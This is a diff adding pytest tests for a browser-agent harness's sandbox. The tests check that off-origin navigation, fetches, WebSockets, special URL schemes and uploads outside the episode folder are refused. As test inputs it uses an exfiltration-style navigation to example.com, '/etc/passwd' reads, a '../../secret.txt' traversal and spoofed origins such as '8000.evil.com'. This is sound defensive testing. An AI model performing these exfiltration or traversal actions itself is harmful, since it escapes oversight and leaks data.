@@ -1,0 +1,128 @@
+"""The sandbox: only the suite's origin is reachable, files stay in the episode folder."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+import officegym
+from officegym.harness.sandbox import Sandbox, SandboxViolation
+from tests.harness.envs import hello_task
+
+pytestmark = pytest.mark.browser
+
+
+@pytest.fixture(scope="module")
+def env(store):
+    task = hello_task(store.golden(0, "tiny"), files={"notes.txt": b"episode file"})
+    env = officegym.make(task, home=store.home, observation={"dom": False})
+    yield env
+    env.close()
+
+
+def page_eval(env, script: str):
+    return env._shared.run(env._core.session.page.evaluate(script))
+
+
+@pytest.mark.parametrize(
+    ("url", "message"),
+    [
+        ("https://example.com/", "outside this suite"),
+        ("http://127.0.0.1:1/", "outside this suite"),
+        ("file:///etc/passwd", "file: URLs are not allowed"),
+        ("chrome://version", "chrome: URLs are not allowed"),
+        ("javascript:alert(1)", "javascript: URLs are not allowed"),
+        ("data:text/html,<h1>x</h1>", "data: URLs are not allowed"),
+    ],
+)
+def test_goto_outside_the_suite_is_refused_and_counted(env, url, message):
+    obs, _ = env.reset(seed=0)
+    start = obs["url"]
+    obs, _, terminated, _, info = env.step(f"goto({url!r})".replace("'", '"'))
+    assert message in obs["last_action_error"]
+    assert obs["url"] == start and not terminated
+    assert info["blocked_requests"] == 1
+
+
+def test_goto_a_path_of_the_suite_works(env):
+    obs, _ = env.reset(seed=0)
+    obs, *_ = env.step('goto("/chat/browse")')
+    assert obs["last_action_error"] == ""
+    assert obs["url"] == env.server_url + "/chat/browse"
+
+
+def test_requests_the_page_makes_to_other_sites_are_aborted_and_counted(env):
+    env.reset(seed=0)
+    # The apps' CSP already stops fetches and images to other origins inside the page...
+    outcome = page_eval(
+        env,
+        """async () => {
+            try { await fetch('http://example.com/track'); return 'reached'; }
+            catch (e) { return 'blocked'; }
+        }""",
+    )
+    assert outcome == "blocked"
+    # ...navigations are not covered by CSP, and the sandbox aborts them.
+    page_eval(env, "() => { window.location.href = 'https://example.com/exfiltrate?q=1'; }")
+    obs, _, _, _, info = env.step("noop(500)")
+    assert info["blocked_requests"] == 1
+    assert info["blocked_urls"] == ["https://example.com/exfiltrate?q=1"]
+    assert "example.com is blocked" in obs["axtree_txt"]
+
+
+def test_web_sockets_to_other_sites_are_closed(env):
+    env.reset(seed=0)
+    outcome = page_eval(
+        env,
+        """() => new Promise(done => {
+            const ws = new WebSocket('ws://example.com/socket');
+            ws.onopen = () => done('open');
+            ws.onclose = () => done('closed');
+            ws.onerror = () => done('closed');
+        })""",
+    )
+    assert outcome == "closed"
+    _, _, _, _, info = env.step("noop(0)")
+    assert info["blocked_requests"] >= 1
+
+
+def file_input_bid(env) -> str:
+    return page_eval(env, "() => document.querySelector('input[type=file]').getAttribute('bid')")
+
+
+def test_upload_outside_the_episode_folder_is_refused(env):
+    env.reset(seed=0)
+    file_input = file_input_bid(env)
+    obs, *_ = env.step(f'upload_file("{file_input}", "/etc/passwd")')
+    assert "outside the episode folder" in obs["last_action_error"]
+    obs, *_ = env.step(f'upload_file("{file_input}", "../../secret.txt")')
+    assert "outside the episode folder" in obs["last_action_error"]
+    assert page_eval(env, "() => document.querySelector('input[type=file]').files.length") == 0
+
+
+def test_upload_from_the_episode_folder_works(env):
+    env.reset(seed=0)
+    obs, *_ = env.step(f'upload_file("{file_input_bid(env)}", "notes.txt")')
+    assert obs["last_action_error"] == ""
+    name = page_eval(env, "() => document.querySelector('input[type=file]').files[0].name")
+    assert name == "notes.txt"
+
+
+def test_upload_of_a_missing_file_lists_what_is_there(tmp_path: Path):
+    sandbox = Sandbox("http://127.0.0.1:9", tmp_path)
+    (tmp_path / "notes.txt").write_text("x")
+    with pytest.raises(SandboxViolation, match="available: notes.txt"):
+        sandbox.upload_paths(["other.txt"])
+    assert sandbox.upload_paths(["notes.txt"]) == [str((tmp_path / "notes.txt").resolve())]
+
+
+def test_only_the_origin_matches_as_local(tmp_path: Path):
+    sandbox = Sandbox("http://127.0.0.1:8000", tmp_path)
+    foreign = sandbox.foreign
+    assert not foreign.search("http://127.0.0.1:8000/chat/")
+    assert not foreign.search("http://127.0.0.1:8000")
+    assert foreign.search("http://127.0.0.1:80001/chat/")
+    assert foreign.search("http://127.0.0.1:8000.evil.com/")
+    assert foreign.search("https://127.0.0.1:8000/")
+    assert foreign.search("http://localhost:8000/")
